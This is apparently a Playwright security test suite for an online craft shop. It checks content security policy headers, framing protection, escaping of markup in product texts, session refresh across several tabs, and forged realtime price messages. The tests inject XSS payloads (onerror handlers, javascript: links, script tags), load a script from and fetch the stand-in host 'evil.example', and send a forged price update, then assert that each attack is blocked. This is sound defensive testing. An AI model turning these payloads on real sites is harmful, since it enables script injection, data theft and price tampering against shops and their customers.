import type { Page, WebSocketRoute } from '@playwright/test'
import { callAs, createSession } from './support/session.ts'
import { expect, test } from './support/fixtures.ts'
import { cartDrawer, signUp } from './support/checkout.ts'

// Attacks that need a browser. The numbers are the rows of docs/security.md.

const h1 = (page: Page) => page.getByRole('heading', { level: 1 })

const PAGES = [
  '/',
  '/products',
  '/products?q=tagine&city=Fez',
  '/cities',
  '/about',
  '/about/stories',
  '/Contact',
  '/support',
  '/CareInstructions',
  '/terms',
  '/cart',
  '/wishlist',
  '/auth',
  '/auth/reset',
  '/track/nothing',
  '/nowhere',
]

/** Collects violations of the content security policy, from before the first script runs. */
async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = []
    Object.assign(window, { refusedByPolicy: seen })
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push(`${event.violatedDirective} ${event.blockedURI}`)
    })
  })
  return () => page.evaluate(() => (window as unknown as { refusedByPolicy: string[] }).refusedByPolicy)
}

test.describe('52 security headers', () => {
  test('every page complies with the content security policy', async ({ page, stockroom }) => {
    test.slow()
    const lantern = await stockroom.add({ price: 200, stock_quantity: 5 })
    const refused = await watchPolicy(page)
    await signUp(page)
    for (const path of [...PAGES, `/product/${lantern.id}`, '/account', '/account?section=profile']) {
      const answer = await page.goto(path)
      expect(answer?.headers()['content-security-policy'], path).toContain(`frame-ancestors 'none'`)
      expect(answer?.headers()['x-content-type-options'], path).toBe('nosniff')
      await expect(h1(page), path).toBeVisible()
      expect(await refused(), path).toEqual([])
    }
    // The cart drawer and the checkout.
    await page.goto(`/product/${lantern.id}`)
    await page.getByRole('button', { name: 'Add to Cart', exact: true }).click()
    await expect(cartDrawer(page)).toBeVisible()
    expect(await refused()).toEqual([])
    await page.goto('/checkout')
    await expect(page.getByLabel('First name')).toBeVisible()
    expect(await refused()).toEqual([])
  })

  test.describe('against injected content', () => {
    test.use({ expectedErrors: /Content Security Policy|frame-ancestors|Refused to|ERR_BLOCKED/ })

    test('scripts, event handlers and requests to other origins are blocked', async ({ page }) => {
      const refused = await watchPolicy(page)
      await page.goto('/terms')
      await expect(h1(page)).toBeVisible()
      await page.evaluate(() => {
        const script = document.createElement('script')
        script.textContent = 'window.canary = 1'
        const foreign = document.createElement('script')
        foreign.src = 'https://evil.example/x.js'
        const image = document.createElement('img')
        image.setAttribute('onerror', 'window.canary = 2')
        // Not a picture, so that its handler would run.
        image.src = '/robots.txt'
        const base = document.createElement('base')
        base.href = 'https://evil.example/'
        const style = document.createElement('style')
        style.textContent = 'body { color: red }'
        document.head.append(script, foreign, base, style)
        document.body.append(image)
        void fetch('https://evil.example/steal').catch(() => undefined)
      })
      await expect
        .poll(async () => (await refused()).map((line) => line.split(' ')[0]).sort())
        .toEqual(
          expect.arrayContaining([
            'base-uri',
            'connect-src',
            'script-src-attr',
            'script-src-elem',
            'script-src-elem',
            'style-src-elem',
          ]),
        )
      expect(await page.evaluate(() => 'canary' in window)).toBe(false)
    })

    test('another page cannot show the shop in a frame', async ({ page, baseURL }) => {
      // Not even a page of the same origin may embed the shop.
      await page.route('**/win-a-tagine', (route) =>
        route.fulfill({
          contentType: 'text/html',
          body: `<h1>Win a tagine</h1><iframe src="${baseURL}/cart" title="shop"></iframe>`,
        }),
      )
      const refusal = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'))
      await page.goto('/win-a-tagine')
      await refusal
      await expect(page.frameLocator('iframe').getByText('Moroccan Craft Gallery')).toHaveCount(0)
    })
  })
})

test.describe('49 product texts contain markup', () => {
  const MARKUP = `<img src=x onerror="window.canary=1"></script><script>window.canary=1</script>`
  const LINK =
    '[free](javascript:window.canary=1) <a href="javascript:window.canary=1">free</a> <svg onload=canary()>'

  test('and are shown as plain text', async ({ page }) => {
    test.slow()
    const admin = await createSession('admin')
    const categories = (await (
      await callAs(admin, 'GET', '/rest/v1/categories?select=id&limit=1')
    ).json()) as {
      id: string
    }[]
    const mark = crypto.randomUUID().slice(0, 8)
    const name = `${mark} ${MARKUP}`
    const added = await callAs(admin, 'POST', '/rest/v1/products?select=id', {
      name_en: name,
      name_fr: name,
      name_ar: name,
      description_en: LINK,
      description_fr: LINK,
      description_ar: LINK,
      price: 120,
      stock_quantity: 9,
      category_id: categories[0]?.id,
      image_url: 'catalog/pouf-square-cognac-1000.avif',
      is_active: true,
    })
    expect(added.status).toBe(201)
    const [product] = (await added.json()) as { id: string }[]
    if (product === undefined) throw new Error('no product was added')
    try {
      const refused = await watchPolicy(page)
      const harmless = async () => {
        expect(await page.evaluate(() => 'canary' in window)).toBe(false)
        expect(await refused()).toEqual([])
        await expect(page.locator('img[src="x"], svg[onload], a[href^="javascript"]')).toHaveCount(0)
      }
      await page.goto(`/product/${product.id}`)
      await expect(h1(page)).toHaveText(name)
      await expect(page.getByRole('main')).toContainText('[free](javascript:')
      await harmless()
      await page.getByRole('button', { name: 'Add to Cart', exact: true }).click()
      await expect(cartDrawer(page)).toContainText(mark)
      await harmless()
      for (const path of [
        '/cart',
        `/products?q=${mark}`,
        `/products?q=${encodeURIComponent(MARKUP)}`,
        `/track/${encodeURIComponent(MARKUP)}`,
        `/order-success?order=${encodeURIComponent(MARKUP)}`,
        `/auth?next=${encodeURIComponent('javascript:window.canary=1')}`,
      ]) {
        await page.goto(path)
        await expect(h1(page)).toBeVisible()
        await harmless()
      }
    } finally {
      await callAs(admin, 'PATCH', `/rest/v1/products?id=eq.${product.id}`, { is_active: false })
    }
  })
})

test.describe('56 four tabs find an expired session at once', () => {
  // Later tabs get an error for the used refresh token and take the session of the first.
  test.use({ expectedErrors: /40[01]|AuthApiError/ })

  test('and all of them stay signed in', async ({ page, context }) => {
    test.slow()
    await signUp(page)
    const tabs = [page, await context.newPage(), await context.newPage(), await context.newPage()]
    for (const tab of tabs) {
      await tab.goto('/cart')
      await expect(h1(tab)).toBeVisible()
    }
    await page.evaluate(() => {
      const session = JSON.parse(localStorage.getItem('mcg-session') ?? '{}') as Record<string, unknown>
      session.expires_at = Math.floor(Date.now() / 1000) - 60
      localStorage.setItem('mcg-session', JSON.stringify(session))
    })
    await Promise.all(tabs.map((tab) => tab.goto('/account')))
    for (const tab of tabs) await expect(h1(tab)).toHaveText('My account')
    for (const tab of tabs) await expect(tab).toHaveURL('/account')
  })
})

test('62 a forged realtime message with a price only triggers a refetch', async ({ page, stockroom }) => {
  const product = await stockroom.add({ price: 777, stock_quantity: 5 })
  const sockets: WebSocketRoute[] = []
  // The server's ids of the subscriptions; messages with other ids are ignored.
  const subscriptions = new Map<string, number[]>()
  await page.routeWebSocket(/\/realtime\/v1\//, (socket) => {
    const server = socket.connectToServer()
    server.onMessage((message) => {
      const [, , topic, , payload] = JSON.parse(String(message)) as [
        unknown,
        unknown,
        string,
        string,
        { response?: { postgres_changes?: { id: number }[] } },
      ]
      const joined = payload.response?.postgres_changes
      if (joined !== undefined)
        subscriptions.set(
          topic,
          joined.map(({ id }) => id),
        )
      socket.send(message)
    })
    sockets.push(socket)
  })
  await page.goto(`/product/${product.id}`)
  await expect(h1(page)).toHaveText(product.name)
  await expect.poll(() => subscriptions.size).toBe(3)

  const [socket] = sockets
  if (socket === undefined) throw new Error('no socket')
  const record = { id: product.id, price: 1, stock_quantity: 9999, name_en: 'Forged' }
  const columns = [
    { name: 'id', type: 'uuid' },
    { name: 'price', type: 'numeric' },
    { name: 'stock_quantity', type: 'int4' },
    { name: 'name_en', type: 'text' },
  ]
  const data = {
    schema: 'public',
    table: 'products',
    type: 'UPDATE',
    record,
    old_record: {},
    columns,
    errors: null,
  }
  const looked = page.waitForResponse((answer) => answer.url().includes(product.id) && answer.ok())
  for (const [topic, ids] of subscriptions) {
    const changes = { ids, data: { ...data, commit_timestamp: new Date().toISOString() } }
    socket.send(JSON.stringify([null, null, topic, 'postgres_changes', changes]))
    socket.send(
      JSON.stringify([
        null,
        null,
        topic,
        'broadcast',
        { type: 'broadcast', event: 'price', payload: record },
      ]),
    )
  }
  // The message triggers a refetch.
  await looked
  await expect(h1(page)).toHaveText(product.name)
  await expect(page.getByRole('main')).toContainText('777 DH')
  await expect(page.getByRole('main')).not.toContainText('Forged')
  // A real change, so that a refetch has certainly happened since.
  await stockroom.change(product.id, { price: 778 })
  await expect(page.getByRole('main')).toContainText('778 DH')
  await expect(h1(page)).toHaveText(product.name)
  await expect(page.getByRole('main')).not.toContainText('Forged')
})
